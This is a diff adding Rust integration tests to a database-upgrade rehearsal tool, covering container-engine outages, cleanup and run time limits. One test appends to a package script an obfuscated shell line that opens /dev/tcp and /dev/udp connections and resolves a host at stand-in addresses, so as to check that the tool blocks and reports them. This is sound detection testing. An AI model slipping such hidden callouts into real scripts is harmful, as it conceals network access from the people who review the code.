@@ -5,6 +5,8 @@
 
 #[path = "support/docker.rs"]
 mod docker;
+#[path = "support/engine_proxy.rs"]
+mod engine_proxy;
 #[path = "support/program.rs"]
 mod program;
 #[path = "support/stage.rs"]
@@ -13,9 +15,13 @@ mod stage;
 use std::collections::BTreeMap;
 use std::net::TcpListener;
 use std::path::{Path, PathBuf};
+use std::time::Duration;
 
-use fulldress_reports::check::Outcome;
-use program::{Ended, fulldress, program, report};
+use engine_proxy::EngineProxy;
+use fulldress_reports::check::{CheckId, Outcome};
+use fulldress_reports::event::Happening;
+use fulldress_reports::phase::Phase;
+use program::{Ended, fulldress, package, program, report};
 use regex::Regex;
 use rustix::process::{Pid, Signal, kill_process};
 use stage::{Kind, PATIENCE, STOPPING, Stage, alone, await_some, shared};
@@ -282,6 +288,109 @@ fn a_postgresql_that_dies_during_the_upgrade_is_exit_code_5(stage: Stage) {
     assert!(!reason.contains("HINT"), "{reason}");
 }
 
+/// A copy of a package with one more line at the end of a script.
+fn with_line(stage: &Stage, kind: &str, script: &str, line: &str) -> PathBuf {
+    let copy = stage.path().join("package");
+    for (path, bytes) in files(&package(kind)) {
+        let target = copy.join(path.strip_prefix(package(kind)).unwrap());
+        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
+        std::fs::write(target, bytes).unwrap();
+    }
+    let script = copy.join(script);
+    let text = std::fs::read_to_string(&script).unwrap();
+    std::fs::write(script, format!("{text}\n{line}\n")).unwrap();
+    copy
+}
+
+#[test]
+fn what_a_script_in_containers_calls_outside_is_refused_and_found() {
+    let _machine = shared();
+    let Some(mut stage) = Stage::on(Kind::Containers) else { return };
+    stage.forgive_timing();
+    // Put together as it runs, so that nobody who reads the script can know it.
+    let line = "zero=$(wc -c </dev/null)\ngetent hosts \"home${zero}.vendor.example\" || :\n\
+                (exec 3<>\"/dev/tcp/192.${zero}.2.44/8443\") || :\n(echo x >\"/dev/udp/192.${zero}.2.45/514\") || :";
+    let package = with_line(&stage, "safe", "scripts/050-webhook.up.sh", line);
+    stage.start_package(&package).finish(PATIENCE).expect_code(1);
+    stage.assert_clean();
+    let report = stage.report();
+    let endpoint = report.findings.iter().filter(|finding| finding.check == CheckId::PreEndpoint);
+    let mut found: Vec<&str> = endpoint.map(|finding| finding.object.as_str()).collect();
+    found.sort_unstable();
+    assert_eq!(found, ["home0.vendor.example", "tcp 192.0.2.44:8443", "udp 192.0.2.45:514"]);
+}
+
+/// A rehearsal in containers whose engine can be taken away.
+fn with_engine(play: impl FnOnce(Stage, &EngineProxy)) {
+    let _machine = shared();
+    let Some(mut stage) = Stage::on(Kind::Containers) else { return };
+    let engine = EngineProxy::at(stage.path().join("engine.sock"));
+    stage.environment.push(("DOCKER_HOST", engine.host()));
+    stage.forgive_timing();
+    play(stage, &engine);
+}
+
+/// What an absent engine could not remove is there, and the doctor removes it once there is one again.
+#[track_caller]
+fn the_doctor_cleans_up(stage: &Stage) {
+    assert_eq!(stage.processes(), Vec::<String>::new());
+    assert!(!docker::labelled(&stage.state).is_empty(), "who removed them?");
+    let doctor = fulldress().args(["doctor", "--clean"]).env("FULLDRESS_STATE", &stage.state).output();
+    Ended::from(doctor.unwrap()).expect_said("removed the container");
+    stage.assert_clean();
+}
+
+#[test]
+fn an_engine_that_falls_silent_during_the_rollback_ends_it_soon() {
+    with_engine(|stage, engine| {
+        let mut rehearsal = stage.start("unsafe");
+        rehearsal.await_event(&phase("rollback"));
+        engine.fall_silent();
+        let ended = rehearsal.finish(STOPPING);
+        let reason = stage.reason();
+        assert_says(&reason, &["the container engine", "does not answer", "fulldress doctor --clean"]);
+        ended.expect_code(5).expect_said(&reason);
+        assert!(stage.report().evidence.traffic.is_some(), "what was measured until then is kept");
+        engine.answer_again();
+        the_doctor_cleans_up(&stage);
+    });
+}
+
+#[test]
+fn an_engine_that_is_silent_for_a_moment_ends_nothing() {
+    with_engine(|mut stage, engine| {
+        stage.table("phases")["baseline_s"] = 12.into();
+        let mut rehearsal = stage.start("safe");
+        rehearsal.await_event(&phase("baseline"));
+        engine.fall_silent();
+        // Longer than the pause between two of its looks, shorter than what counts as silent.
+        std::thread::sleep(Duration::from_secs(5));
+        engine.answer_again();
+        rehearsal.await_event(&phase("soak"));
+        rehearsal.signal(Signal::INT);
+        let ended = rehearsal.finish(STOPPING);
+        stage.assert_clean();
+        assert_says(&stage.reason(), &["interrupted"]);
+        ended.expect_code(3);
+    });
+}
+
+#[test]
+fn an_engine_that_dies_during_the_rollback_is_told() {
+    with_engine(|stage, engine| {
+        let mut rehearsal = stage.start("unsafe");
+        rehearsal.await_event(&phase("rollback"));
+        std::fs::remove_file(engine.path()).unwrap();
+        engine.die();
+        let ended = rehearsal.finish(STOPPING);
+        let reason = stage.reason();
+        assert_says(&reason, &["the container engine"]);
+        ended.expect_code(5).expect_said(&reason);
+        assert!(stage.report().evidence.traffic.is_some(), "what was measured until then is kept");
+        the_doctor_cleans_up(&stage);
+    });
+}
+
 #[test]
 fn a_taken_port_is_named_with_its_service() {
     let _machine = shared();
@@ -378,15 +487,23 @@ fn a_disk_that_the_rehearsal_fills_is_told() {
 fn a_rehearsal_that_lasts_too_long_is_stopped_and_its_evidence_kept(mut stage: Stage) {
     let _machine = shared();
     stage.forgive_timing();
-    // Long enough that the traffic has begun.
-    let limit_s = if stage.kind == Kind::Local { 6 } else { 30 };
-    stage.table("phases")["rehearsal_max_s"] = limit_s.into();
-    stage.table("phases")["baseline_s"] = 60.into();
-    let ended = stage.start("safe").finish(PATIENCE);
-    stage.assert_clean();
-    assert_says(&stage.reason(), &[&format!("did not end within {limit_s} s"), "rehearsal_max_s"]);
-    assert!(stage.report().evidence.traffic.is_some(), "what was measured until then is kept");
-    ended.expect_code(3);
+    stage.table("phases")["baseline_s"] = 600.into();
+    // Nobody knows how long this machine takes until its traffic flows: a limit that ended the run before is doubled.
+    let limits = std::iter::successors(Some(8_i64), |limit_s| Some(limit_s * 2));
+    for limit_s in limits.take_while(|limit_s| Duration::from_secs(limit_s.unsigned_abs()) < PATIENCE) {
+        stage.table("phases")["rehearsal_max_s"] = limit_s.into();
+        let ended = stage.start("safe").finish(PATIENCE + STOPPING);
+        stage.assert_clean();
+        assert_says(&stage.reason(), &[&format!("did not end within {limit_s} s"), "rehearsal_max_s"]);
+        ended.expect_code(3);
+        let events = fulldress::events::read(&stage.bundle()).unwrap();
+        if events.iter().any(|event| event.what == Happening::PhaseStarted(Phase::Baseline)) {
+            assert!(stage.report().evidence.traffic.is_some(), "what was measured until then is kept");
+            return;
+        }
+        std::fs::remove_dir_all(stage.bundle()).unwrap();
+    }
+    panic!("the baseline did not begin within {PATIENCE:?}");
 }
 
 /// The plan's own choice, on a machine that is made to lack something.
